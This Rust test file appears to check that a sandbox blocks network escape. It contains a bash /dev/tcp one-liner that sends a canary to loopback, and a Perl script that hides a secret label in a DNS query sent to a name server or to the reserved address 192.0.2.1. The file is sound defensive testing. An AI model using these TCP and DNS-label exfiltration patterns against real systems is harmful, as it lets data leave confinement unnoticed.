//! Row 40: ways out over the network.

use std::fs;
use std::net::{TcpListener, UdpSocket};

use super::{held, not_here, open_scene, reached, unconfined};
use crate::setup::text;

/// Sends one datagram with a secret in a label of a name, as a question to a name server.
pub(super) const ASK: &str = r#"use Socket;
my ($host, $port) = @ARGV;
socket(my $s, PF_INET, SOCK_DGRAM, 0) or die;
my $question = "\1\2\1\0\0\1\0\0\0\0\0\0\6canary\7example\0\0\1\0\1";
print "reached by UDP\n" if send($s, $question, 0, pack_sockaddr_in($port, inet_aton($host)));
"#;

#[tokio::test]
async fn r40_tcp_udp_ipv6_and_loopback() {
    let mut scene = open_scene();
    fs::write(scene.path("layer/ask.pl"), ASK).unwrap();
    let v4 = TcpListener::bind("127.0.0.1:0").unwrap();
    let v6 = TcpListener::bind("[::1]:0").ok();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let tcp = |host: &str, port: u16| {
        format!(
            "bash -c 'echo canary > /dev/tcp/{host}/{port}' 2>/dev/null && echo reached {host}\n"
        )
    };
    let mut attack = tcp("127.0.0.1", v4.local_addr().unwrap().port());
    attack += &tcp("localhost", v4.local_addr().unwrap().port());
    let mut ways = 2;
    match &v6 {
        Some(v6) => {
            attack += &tcp("::1", v6.local_addr().unwrap().port());
            ways += 1;
        }
        None => not_here(40, "IPv6", "this machine has none"),
    }
    let reached_by_tcp = reached(&unconfined(&scene, &format!("{attack}echo tried")).stdout);
    assert_eq!(reached_by_tcp, ways, "the control");
    for listener in [Some(&v4), v6.as_ref()].into_iter().flatten() {
        listener.set_nonblocking(true).unwrap();
        assert!(listener.accept().is_ok(), "the control");
        while listener.accept().is_ok() {}
    }
    held(&mut scene, &format!("{attack}echo tried")).await;
    assert!(v4.accept().is_err());
    assert!(v6.is_none_or(|v6| v6.accept().is_err()));

    if !fs::exists("/usr/bin/perl").unwrap() {
        return not_here(40, "UDP", "there is no /usr/bin/perl, by which it is tried");
    }
    let ask = format!("perl ask.pl 127.0.0.1 {}; echo tried", udp.local_addr().unwrap().port());
    udp.set_nonblocking(true).unwrap();
    assert_eq!(reached(&unconfined(&scene, &ask).stdout), 1, "the control");
    let mut heard = [0; 64];
    assert!(udp.recv(&mut heard).is_ok(), "the control");
    // Inside, a datagram to loopback goes to the loopback of the sandbox's own network.
    let exit = scene.run(&ask).await;
    assert!(text(&exit).ends_with("tried\n"));
    assert!(udp.recv(&mut heard).is_err(), "it was heard");
}

#[tokio::test]
async fn r40_no_way_to_other_machines_nor_a_name_server() {
    let mut scene = open_scene();
    fs::write(scene.path("layer/ask.pl"), ASK).unwrap();
    let beyond = "perl ask.pl 192.0.2.1 53; echo tried";
    // TEST-NET-1 is nobody's; that a datagram can be sent there at all is the canary.
    match fs::exists("/usr/bin/perl").unwrap() {
        true if reached(&unconfined(&scene, beyond).stdout) == 1 => {}
        _ => not_here(40, "other machines", "there is no route, or no perl to try one with"),
    }
    held(&mut scene, beyond).await;
    let look = "grep -v -e lo: -e '|' /proc/net/dev && echo reached an interface\n\
                grep -q . /etc/resolv.conf && echo reached a name server\necho tried";
    match reached(&unconfined(&scene, look).stdout) {
        2 => {}
        _ => not_here(40, "other machines", "this one has no interface, or no name server"),
    }
    held(&mut scene, look).await;
}
